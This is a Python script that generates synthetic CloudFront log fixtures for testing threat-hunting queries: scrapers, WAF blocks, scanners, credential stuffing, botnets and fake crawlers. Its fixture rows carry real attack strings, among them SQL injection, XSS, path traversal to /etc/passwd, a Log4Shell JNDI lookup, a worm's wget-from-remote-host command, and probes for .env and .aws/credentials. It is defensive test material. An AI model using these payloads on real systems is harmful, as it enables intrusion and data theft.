#!/usr/bin/env python3
"""Writes the small CloudFront standard-log fixtures of the playbook tests (test/sql/playbook).

Each file is one scenario with a handful of clients whose numbers are chosen so the expected
hunt results can be worked out by hand (the arithmetic is in the .test files). 33-field standard log format;
files of more than 40 lines are gzipped (read_cloudfront detects gzip from the bytes), all
deterministic. Re-run after editing:

    python3 test/data/playbook/make_playbook_fixtures.py

Addresses are documentation ranges (192.0.2.0/24, 198.51.100.0/24, 203.0.113.0/24, 2001:db8::/32)
except where a hunt needs a recognisable real prefix (Googlebot's 66.249.66.0/24 as a crawler).
"""
import gzip
import uuid
import random
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent

FIELDS = ("date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status cs(Referer) "
          "cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type x-edge-request-id x-host-header cs-protocol "
          "cs-bytes time-taken x-forwarded-for ssl-protocol ssl-cipher x-edge-response-result-type "
          "cs-protocol-version fle-status fle-encrypted-fields c-port time-to-first-byte "
          "x-edge-detailed-result-type sc-content-type sc-content-len sc-range-start sc-range-end").split()

BROWSER = "Mozilla/5.0%20(X11;%20Linux%20x86_64;%20rv:133.0)%20Gecko/20100101%20Firefox/133.0"
GOOGLEBOT = "Mozilla/5.0%20(compatible;%20Googlebot/2.1;%20+http://www.google.com/bot.html)"
PYTHON = "python-requests/2.32.3"
SQLMAP = "sqlmap/1.8#stable%20(https://sqlmap.org)"

T0 = datetime(2026, 1, 1, tzinfo=timezone.utc)
_ids = iter(range(1, 10**9))


def at(seconds: float) -> datetime:
    return T0 + timedelta(seconds=seconds)


def line(ts: datetime, ip: str, stem: str, status: int = 200, *, method: str = "GET", ua: str = BROWSER,
         query: str = "-", result: str = "Hit", detailed: str | None = None, edge: str = "IAD89-C1",
         sc_bytes: int = 1000, ssl: str = "TLSv1.3", version: str = "HTTP/2.0", port: int = 50000) -> str:
    detailed = detailed or result
    values = {
        "date": ts.strftime("%Y-%m-%d"), "time": ts.strftime("%H:%M:%S"), "x-edge-location": edge,
        "sc-bytes": str(sc_bytes), "c-ip": ip, "cs-method": method, "cs(Host)": "d1.cloudfront.net",
        "cs-uri-stem": stem, "sc-status": f"{status:03d}", "cs(Referer)": "-", "cs(User-Agent)": ua,
        "cs-uri-query": query, "cs(Cookie)": "-", "x-edge-result-type": result,
        "x-edge-request-id": f"R{next(_ids)}", "x-host-header": "example.com",
        "cs-protocol": "https" if ssl != "-" else "http", "cs-bytes": "400", "time-taken": "0.010",
        "x-forwarded-for": "-", "ssl-protocol": ssl,
        "ssl-cipher": "TLS_AES_128_GCM_SHA256" if ssl != "-" else "-",
        "x-edge-response-result-type": result, "cs-protocol-version": version, "fle-status": "-",
        "fle-encrypted-fields": "-", "c-port": str(port), "time-to-first-byte": "0.005",
        "x-edge-detailed-result-type": detailed, "sc-content-type": "text/html", "sc-content-len": str(sc_bytes),
        "sc-range-start": "-", "sc-range-end": "-",
    }
    return "\t".join(values[f] for f in FIELDS)


def write(name: str, lines: list[str]) -> None:
    """Writes a log file; the larger scenarios as .log.gz (gzip mtime 0, so the bytes are stable)."""
    body = ("#Version: 1.0\n#Fields: " + " ".join(FIELDS) + "\n" + "\n".join(lines) + "\n").encode()
    if len(lines) <= 40:
        (HERE / name).write_bytes(body)
        return
    with open(HERE / (name + ".gz"), "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0) as gz:
        gz.write(body)


def benign_lines(start_s: float = 0.0) -> list[str]:
    """Two browsers loading pages with their assets, a crawler, a login with one typo."""
    out = []
    for k, ip in enumerate(["198.51.100.20", "198.51.100.21"]):
        t = start_s + 60 * k
        for page in ["/", "/products/shoes", "/products/socks"]:
            out.append(line(at(t), ip, page, result="Miss", edge="FRA56-P1"))
            for asset in ["/assets/app.css", "/assets/app.js", "/img/hero.webp"]:
                t += 1
                out.append(line(at(t), ip, asset, edge="FRA56-P1"))
            t += 30
    out.append(line(at(start_s + 400), "198.51.100.20", "/login", 401, method="POST", result="Error", edge="FRA56-P1"))
    out.append(line(at(start_s + 420), "198.51.100.20", "/login", 302, method="POST", result="Miss", edge="FRA56-P1"))
    out.append(line(at(start_s + 500), "66.249.66.1", "/products/boots", ua=GOOGLEBOT, edge="ATL56-C4"))
    out.append(line(at(start_s + 900), "66.249.66.1", "/blog/care", ua=GOOGLEBOT, edge="ATL56-C4"))
    return out


def summary() -> None:
    # 8 requests by hand; see summary.test for the arithmetic.
    write("summary.log", [
        line(at(0), "192.0.2.1", "/", 200, result="Hit", sc_bytes=1000, edge="IAD89-C1"),
        line(at(10), "192.0.2.1", "/a", 200, result="RefreshHit", sc_bytes=2000, edge="IAD89-C1"),
        line(at(20), "192.0.2.1", "/b", 404, result="Error", sc_bytes=500, edge="IAD89-C1"),
        line(at(30), "192.0.2.2", "/", 301, result="Redirect", sc_bytes=300, edge="FRA56-P1", ua=PYTHON),
        line(at(40), "192.0.2.2", "/", 200, result="Miss", sc_bytes=4000, edge="FRA56-P1", ua=PYTHON),
        line(at(50), "192.0.2.3", "/x", 502, result="Error", detailed="OriginConnectError", sc_bytes=700, edge="NRT57-P2"),
        line(at(60), "192.0.2.1", "/", 200, result="Hit", sc_bytes=1000, edge="IAD89-C1"),
        line(at(3600), "192.0.2.4", "/", 0, result="Error", detailed="ClientHungUpRequest", sc_bytes=0, edge="XYZ1"),
    ])


def scraper() -> None:
    out = []
    # Scraper: 120 distinct product pages, one every 20 s from 00:00:00 (last at 00:39:40), no assets.
    for i in range(120):
        out.append(line(at(20 * i), "203.0.113.10", f"/products/{1000 + i}", ua=PYTHON, result="Miss"))
    # Mirroring tool: 100 distinct pages, each followed by the stylesheet (half of its requests are
    # assets), one request every 10 s from 01:00:00.
    for i in range(100):
        out.append(line(at(3600 + 20 * i), "198.51.100.40", f"/docs/page-{i}", ua="Wget/1.21.4", result="Miss"))
        out.append(line(at(3600 + 20 * i + 10), "198.51.100.40", "/docs/style.css", ua="Wget/1.21.4"))
    # Declared crawler: 110 distinct pages, one every 5 minutes (rate 0.2/min, not steady).
    for i in range(110):
        out.append(line(at(300 * i), "66.249.66.1", f"/blog/post-{i}", ua=GOOGLEBOT))
    out += benign_lines(100)
    write("scraper.log", out)


def cache_busting() -> None:
    rnd = random.Random(7)
    out = []
    # Two clients, 30 requests each to /search with a fresh UUID cache buster, all Miss.
    for k, ip in enumerate(["203.0.113.20", "203.0.113.21"]):
        for i in range(30):
            q = f"cb={uuid.UUID(int=rnd.getrandbits(128), version=4)}"
            out.append(line(at(10 * i + k), ip, "/search", query=q, result="Miss"))
    # Ten visitors landing on / with one click id each (random too, but one per client).
    for i in range(10):
        q = f"gclid={uuid.UUID(int=rnd.getrandbits(128), version=4)}"
        out.append(line(at(5 * i), f"198.51.100.{100 + i}", "/", query=q, result="Miss"))
    # /search also served 4 cache hits without a query.
    for i in range(4):
        out.append(line(at(400 + i), "198.51.100.30", "/search", result="Hit"))
    write("cache_busting.log", out)


def waf() -> None:
    out = []
    blocked = dict(status=403, result="Error", detailed="InvalidRequestBlocked")
    # A: 12 blocks on /search in the first 5-minute window, then 2 successes with %25-encoded payloads.
    for i in range(12):
        out.append(line(at(20 * i), "192.0.2.50", "/search", query="q=1%27%20OR%201=1--", **blocked))
    out.append(line(at(1200), "192.0.2.50", "/search", query="q=1%2527%2520OR%25201=1--", result="Miss"))
    out.append(line(at(1260), "192.0.2.50", "/search", query="q=1%2527%2520UNION%2520SELECT--", result="Miss"))
    # B: 5 blocks only (under min_blocks), never succeeds.
    for i in range(5):
        out.append(line(at(30 * i), "192.0.2.51", "/admin", query="x=%3Cscript%3E", **blocked))
    # C: never blocked, one successful depth-2 query.
    out.append(line(at(100), "192.0.2.52", "/api/files", query="path=..%252f..%252fetc%252fpasswd", result="Miss"))
    # D: 3 blocks on /login (generic 403 Error), then a plain successful /login.
    for i in range(3):
        out.append(line(at(600 + 10 * i), "192.0.2.53", "/login", 403, result="Error", query="u=admin%27--"))
    out.append(line(at(700), "192.0.2.53", "/login", result="Miss"))
    # E: never blocked; two 200s on /search with a payload the client encoded twice (its %2527 is
    # logged %252527: client-side depth 2).
    for i in range(2):
        out.append(line(at(1800 + 30 * i), "192.0.2.54", "/search", query="q=1%252527%252520UNION%252520SELECT%252520NULL--",
                        result="Miss"))
    out += benign_lines(0)
    write("waf.log", out)


def errors() -> None:
    out = []
    # 30 minutes x 10 requests (one every 6 s), all 200 ...
    for m in range(30):
        for j in range(10):
            status, result, detailed = 200, "Hit", None
            if m == 20 and j < 6:    # ... except 6 origin failures in minute 20
                status, result, detailed = 502, "Error", "OriginConnectError"
            if m == 25 and j < 4:    # ... and 4 not-founds in minute 25 (under min_errors)
                status, result, detailed = 404, "Error", "Error"
            out.append(line(at(60 * m + 6 * j), f"198.51.100.{j}", f"/page{j}", status, result=result, detailed=detailed))
    write("errors.log", out)


def ddos() -> None:
    out = []
    # 20 minutes x 10 requests from 10 regular visitors.
    for m in range(20):
        for j in range(10):
            out.append(line(at(60 * m + 6 * j), f"198.51.100.{j}", "/", edge="IAD89-C1"))
    # Minute 15: 100 more requests from 50 sources (2 each) against /search through GRU3-C1.
    for i in range(100):
        out.append(line(at(15 * 60 + 0.5 * i), f"203.0.113.{100 + i % 50}", "/search", edge="GRU3-C1", result="Miss"))
    # 00:02:00 on: one client, 110 requests 2.5 s apart (272.5 s), /api/v1/products.
    for i in range(110):
        out.append(line(at(120 + 2.5 * i), "192.0.2.99", "/api/v1/products", ua="axios/1.7.7", result="Miss", edge="IAD89-C1"))
    write("ddos.log", out)


def geo() -> None:
    out = []
    # 4 hours in 10-minute buckets: IAD serves 5 clients a bucket, FRA 2 ...
    for b in range(24):
        base = 600 * b
        for c in range(5):
            out.append(line(at(base + 10 * c), f"198.51.100.{c}", "/", edge="IAD89-C1"))
        for c in range(2):
            out.append(line(at(base + 100 + 10 * c), f"198.51.100.{50 + c}", "/", edge="FRA56-P1"))
    # ... except 02:00-02:10 where FRA serves 25 distinct clients (23 more), and
    for c in range(23):
        out.append(line(at(7200 + 200 + c), f"203.0.113.{c}", "/", edge="FRA56-P1"))
    # 03:30-03:40: NBO50-C1, never seen before, serves 12 distinct clients.
    for c in range(12):
        out.append(line(at(12600 + 5 * c), f"41.90.0.{c}", "/", edge="NBO50-C1"))
    write("geo.log", out)


def egress() -> None:
    out = []
    # 100 clients of 1,000,000 bytes each, one request.
    for c in range(100):
        out.append(line(at(c), f"10.0.{c // 250}.{c % 250}", "/page", sc_bytes=1_000_000))
    # One client: 15 downloads of 200,000,000 bytes.
    for i in range(15):
        out.append(line(at(200 + 60 * i), "203.0.113.77", f"/downloads/part{i:02d}.zip", sc_bytes=200_000_000,
                        ua="rclone/v1.68.1", result="Miss"))
    write("egress.log", out)


def protocol() -> None:
    out = []
    # E: 3 requests, each TRACE + HTTP/1.0 + TLSv1 + no user agent + source port 80 (5 kinds).
    for i in range(3):
        out.append(line(at(10 * i), "192.0.2.60", "/", 405, method="TRACE", ua="-", ssl="TLSv1", version="HTTP/1.0",
                        port=80, result="Error"))
    # F: 3 requests over TLSv1.1 only (1 kind).
    for i in range(3):
        out.append(line(at(100 + 10 * i), "192.0.2.61", "/", ssl="TLSv1.1", version="HTTP/1.1"))
    # G: 2 PROPFIND requests (under min_requests).
    for i in range(2):
        out.append(line(at(200 + 10 * i), "192.0.2.62", "/webdav/", 405, method="PROPFIND", result="Error"))
    # H: 4 requests with HTTP/1.0 and no user agent (2 kinds).
    for i in range(4):
        out.append(line(at(300 + 10 * i), "192.0.2.63", "/health", ua="-", version="HTTP/1.0"))
    out += benign_lines(0)
    write("protocol.log", out)


def scanners() -> None:
    out = []
    # S1: sqlmap user agent, one request.
    out.append(line(at(0), "192.0.2.70", "/search", ua=SQLMAP, query="q=1%27", result="Miss"))
    # S2: three probe paths, all 404.
    for i, p in enumerate(["/.env", "/.git/config", "/wp-login.php"]):
        out.append(line(at(10 + i), "192.0.2.71", p, 404, result="Error"))
    # S3: 60 404s over 30 distinct stems in 3 minutes (3 s apart), browser UA, no probe paths.
    for i in range(60):
        out.append(line(at(600 + 3 * i), "192.0.2.72", f"/old/page-{i % 30}", 404, result="Error"))
    # S4: S3's pattern plus probe paths -> two signals.
    for i in range(60):
        out.append(line(at(600 + 3 * i), "192.0.2.73", f"/backup/file-{i % 30}.zip", 404, result="Error"))
    for i, p in enumerate(["/.env", "/.aws/credentials", "/phpinfo.php"]):
        out.append(line(at(900 + i), "192.0.2.73", p, 404, result="Error"))
    out += benign_lines(0)
    write("scanners.log", out)


def credential() -> None:
    out = []
    # 15 clients x 4 failed POST /login (401) within 01:00-02:00, plus 5 successful POSTs (302).
    for c in range(15):
        for k in range(4):
            out.append(line(at(3600 + 60 * c + 5 * k), f"203.0.113.{c}", "/login", 401, method="POST", result="Error"))
    for c in range(5):
        out.append(line(at(3600 + 1200 + 30 * c), f"198.51.100.{c}", "/login", 302, method="POST", result="Miss"))
    # /api/auth/token: 20 failures from 2 clients only (under min_clients).
    for k in range(20):
        out.append(line(at(3600 + 10 * k), f"192.0.2.{80 + k % 2}", "/api/auth/token", 403, method="POST",
                        result="Error"))
    out += benign_lines(3600)
    write("credential.log", out)


def attacks() -> None:
    """Attack payloads (cf_attacks.test); the family of each comes from data/attack_rules."""
    out = []
    blocked = dict(status=403, result="Error", detailed="InvalidRequestBlocked")
    union = "id=1%2527%2520UNION%2520SELECT%2520username,password%2520FROM%2520users--"
    # A: 3 sqli payloads on /products: two refused, then one answered 200.
    out.append(line(at(0), "192.0.2.10", "/products", query=union, **blocked))
    out.append(line(at(10), "192.0.2.10", "/products", query="id=1%2520AND%2520SLEEP(5)--", **blocked))
    out.append(line(at(20), "192.0.2.10", "/products", query=union, result="Miss"))
    # B: 4 xss payloads on /search, all refused.
    for i, q in enumerate(["q=%253Cscript%253Ealert(1)%253C/script%253E", "q=%2522%253E%253Csvg/onload=alert(1)%253E"] * 2):
        out.append(line(at(60 + 10 * i), "192.0.2.11", "/search", query=q, **blocked))
    # C: two secret-file probes, 404.
    out.append(line(at(120), "192.0.2.12", "/.env", 404, result="Error"))
    out.append(line(at(125), "192.0.2.12", "/.git/config", 404, result="Error"))
    # D: Log4Shell in the user agent, once, answered 200.
    out.append(line(at(180), "192.0.2.13", "/", ua="$%7Bjndi:ldap://198.51.100.23/a%7D"))
    # E: /.env twice, redirected (301): a redirect of a probed path is not a hit.
    for i in range(2):
        out.append(line(at(240 + 5 * i), "192.0.2.14", "/.env", 301, result="Redirect"))
    # F: 2 sqli payloads that made the origin fail (500).
    for i in range(2):
        out.append(line(at(300 + 5 * i), "192.0.2.15", "/products", 500, query="id=1%2520AND%2520SLEEP(5)--", result="Error",
                        detailed="Error"))
    # A person: words that look like SQL, an apostrophe, a tag with a space (no payload).
    out.append(line(at(400), "198.51.100.60", "/search", query="q=select+a+union+station"))
    out.append(line(at(410), "198.51.100.60", "/search", query="q=it%2527s+a+cat"))
    out.append(line(at(420), "198.51.100.60", "/tags/summer%2520sale"))
    out += benign_lines(0)
    write("attacks.log", out)


def campaigns() -> None:
    """Many clients sharing a signature (cf_campaigns.test)."""
    out = []
    bot_ua = "Mozilla/5.0%20(Windows%20NT%2010.0;%20Win64;%20x64)%20AppleWebKit/537.36%20(KHTML,%20like%20Gecko)%20Chrome/96.0.4664.110%20Safari/537.36"
    worm_ua = "Hello,%20world"
    iis_ua = "Mozilla/4.0%20(compatible;%20MSIE%205.01;%20Windows%20NT%205.0)"
    # A person loads /login (so it is a page) and signs in 30 s later.
    out.append(line(at(3600), "198.51.100.21", "/login", result="Miss"))
    out.append(line(at(3630), "198.51.100.21", "/login", 302, method="POST", result="Miss"))
    # Login botnet: 4 addresses, one POST /login each without loading it, 401.
    for i in range(4):
        out.append(line(at(4200 + 60 * i), f"203.0.113.{1 + i}", "/login", 401, method="POST", ua=bot_ua, result="Error"))
    # Contact-form spam: 3 addresses, GET /contact then POST 1 s later, twice each (303).
    for i in range(3):
        for k in range(2):
            t = 7200 + 100 * i + 40 * k
            out.append(line(at(t), f"192.0.2.{30 + i}", "/contact", result="Miss"))
            out.append(line(at(t + 1), f"192.0.2.{30 + i}", "/contact", 303, method="POST", result="Miss"))
    # Two more form posters on /newsletter: under min_members.
    for i in range(2):
        out.append(line(at(7800 + 100 * i), f"192.0.2.{40 + i}", "/newsletter", result="Miss"))
        out.append(line(at(7801 + 100 * i), f"192.0.2.{40 + i}", "/newsletter", 303, method="POST", result="Miss"))
    # Worm: 3 addresses, the same exploit once each, 404.
    for i in range(3):
        out.append(line(at(10800 + 300 * i), f"203.0.113.{50 + i}", "/shell", 404, ua=worm_ua,
                        query="cd+/tmp;wget+http://192.0.2.77/x.sh", result="Error", version="HTTP/1.0"))
    # IIS-worm probe sequence: 3 addresses, the same two probes, 404.
    for i in range(3):
        out.append(line(at(14400 + 300 * i), f"203.0.113.{60 + i}", "/scripts/root.exe", 404, ua=iis_ua, query="/c+dir", result="Error"))
        out.append(line(at(14402 + 300 * i), f"203.0.113.{60 + i}", "/c/winnt/system32/cmd.exe", 404, ua=iis_ua, query="/c+dir",
                        result="Error"))
    # One user agent, three addresses, each probing a different secret file once.
    for i, p in enumerate(["/.env", "/.git/config", "/backup.sql"]):
        out.append(line(at(18000 + 60 * i), f"203.0.113.{70 + i}", p, 404, ua="EvilBot/1.0", result="Error"))
    # Three addresses probing only /wp-login.php (no WordPress here), 404.
    for i in range(3):
        out.append(line(at(19800 + 600 * i), f"203.0.113.{80 + i}", "/wp-login.php", 404, ua="Mozilla/5.0%20(X11;%20Ubuntu;%20Linux%20x86_64;%20rv:62.0)%20Gecko/20100101%20Firefox/62.0",
                        result="Error"))
    # A verified Googlebot following a link to /.env: never a campaign member.
    out.append(line(at(18300), "66.249.66.1", "/.env", 404, ua=GOOGLEBOT, result="Error"))
    out.append(line(at(18310), "66.249.66.1", "/", ua=GOOGLEBOT))
    out += benign_lines(0)
    write("campaigns.log", out)


def crawlers() -> None:
    """Crawler claims (cf_fake_crawlers.test) and benign heavy clients (cf_hunt.test)."""
    out = []
    bingbot = "Mozilla/5.0%20(compatible;%20bingbot/2.0;%20+http://www.bing.com/bingbot.htm)"
    # A Googlebot outside Google's ranges walking 12 product pages; another sending 2 requests.
    for i in range(12):
        out.append(line(at(60 * i), "203.0.113.80", f"/products/p-{i}", ua=GOOGLEBOT, result="Miss"))
    for i in range(2):
        out.append(line(at(30 + 60 * i), "203.0.113.81", f"/products/q-{i}", ua=GOOGLEBOT, result="Miss"))
    # A bingbot outside Microsoft's ranges, once, 404.
    out.append(line(at(90), "198.51.100.90", "/old-page", 404, ua=bingbot, result="Error"))
    # Verified: Googlebot in 66.249.66.0/24 fetching 120 pages within 5 minutes (a per-IP flood by
    # cf_ddos's numbers) and bingbot in 157.55.39.0/24.
    for i in range(120):
        out.append(line(at(3600 + 2 * i), "66.249.66.1", f"/blog/post-{i}", ua=GOOGLEBOT))
    out.append(line(at(3700), "157.55.39.43", "/", ua=bingbot))
    # A reader: one gallery page pulling 109 thumbnails within a minute (110 requests in minute
    # 02:00), against a background of one request a minute from 01:30 to 02:29 (198.51.100.71).
    out.append(line(at(7200), "198.51.100.70", "/gallery", result="Miss"))
    for i in range(109):
        out.append(line(at(7201 + i / 2), "198.51.100.70", f"/img/thumbs/{i}.webp"))
    for m in range(60):
        out.append(line(at(5400 + 60 * m + 30), "198.51.100.71", "/"))
    out += benign_lines(0)
    write("crawlers.log", out)


def previews() -> None:
    """Link previews of a sensitive file (cf_hunt.test, cf_blocklist.test): a chat app fetching a
    posted link is not a campaign member; a forged preview user agent sending a payload is."""
    out = []
    slack = "Slackbot-LinkExpanding%201.0%20(+https://api.slack.com/robots)"
    # Three clients download the exposed database dump, one request each, 200.
    for i, ip in enumerate(("203.0.113.101", "203.0.113.102", "203.0.113.103")):
        out.append(line(at(60 * i), ip, "/backup.sql", ua="curl/8.4.0", result="Miss"))
    # Slack unfurls the link twice (206, a ranged fetch): one address twice, another once.
    out.append(line(at(200), "198.51.100.120", "/backup.sql", 206, ua=slack, result="Miss"))
    out.append(line(at(201), "198.51.100.120", "/backup.sql", 206, ua=slack, result="Miss"))
    out.append(line(at(230), "198.51.100.121", "/backup.sql", 206, ua=slack, result="Miss"))
    # The same user agent downloading the dump and sending a SQL injection: not a link preview.
    out.append(line(at(300), "198.51.100.122", "/backup.sql", ua=slack, result="Miss"))
    out.append(line(at(310), "198.51.100.122", "/search", ua=slack, query="q=1%27%20UNION%20SELECT%20NULL--", result="Miss"))
    out += benign_lines(0)
    write("previews.log", out)


def benign() -> None:
    write("benign.log", benign_lines(0))


def parquet() -> None:
    """Two standard-logging-v2 Parquet files for read_cloudfront_parquet (needs the duckdb module:
    run with the repository's .venv/bin/python). One uses Athena's underscore column names with
    every value a string; the other W3C names, a subset of fields, typed columns and no date/time
    but timestamp(ms)."""
    try:
        import duckdb
    except ImportError:
        print("duckdb not importable: Parquet fixtures left as they are")
        return
    c = duckdb.connect()
    c.execute(f"""COPY (SELECT * FROM (VALUES
     ('2024-11-14','21:34:06','SOF50-P2','392','192.0.2.100','GET','d111111abcdef8.cloudfront.net','/index.html','200','-',
      'Mozilla/5.0%20(X11)','-','-','Hit','abc==','www.example.com','https','23','0.001','-','TLSv1.3','TLS_AES_128_GCM_SHA256',
      'Hit','HTTP/2.0','-','-','11040','0.001','Hit','text/html','78','-','-'),
     ('2024-11-14','21:35:00','IAD89-C1','900','192.0.2.200','POST','d111111abcdef8.cloudfront.net','/login','403',
      'https://www.example.com/','curl/8.4.0','a=1','-','Error','def==','www.example.com','https','675','0.102','-','TLSv1.2',
      'ECDHE-RSA-AES128-GCM-SHA256','Error','HTTP/1.1','-','-','25260','0.102','Error','text/html','507','-','-')
    ) v("date","time",x_edge_location,sc_bytes,c_ip,cs_method,cs_host,cs_uri_stem,sc_status,cs_referer,cs_user_agent,
        cs_uri_query,cs_cookie,x_edge_result_type,x_edge_request_id,x_host_header,cs_protocol,cs_bytes,time_taken,
        x_forwarded_for,ssl_protocol,ssl_cipher,x_edge_response_result_type,cs_protocol_version,fle_status,
        fle_encrypted_fields,c_port,time_to_first_byte,x_edge_detailed_result_type,sc_content_type,sc_content_len,
        sc_range_start,sc_range_end))
     TO '{HERE / "v2-athena-names.parquet"}' (FORMAT parquet)""")
    c.execute(f"""COPY (SELECT * FROM (VALUES
     ('1731620046814','SOF50-P2', 1234::BIGINT, '198.51.100.7', 'GET', '/a%2520b', 404::INTEGER, 'Mozilla/5.0%2520(Windows)', '-', 'Error'),
     ('1731620047000','FRA56-P1', NULL::BIGINT, '198.51.100.8', 'GET', '/', 200::INTEGER, '', 'q=1', 'Miss')
    ) v("timestamp(ms)","x-edge-location","sc-bytes","c-ip","cs-method","cs-uri-stem","sc-status","cs(User-Agent)",
        "cs-uri-query","x-edge-result-type"))
     TO '{HERE / "v2-w3c-names.parquet"}' (FORMAT parquet)""")


if __name__ == "__main__":
    for f in (summary, scraper, cache_busting, waf, errors, ddos, geo, egress, protocol, scanners, credential, attacks,
              campaigns, crawlers, benign, previews, parquet):
        f()
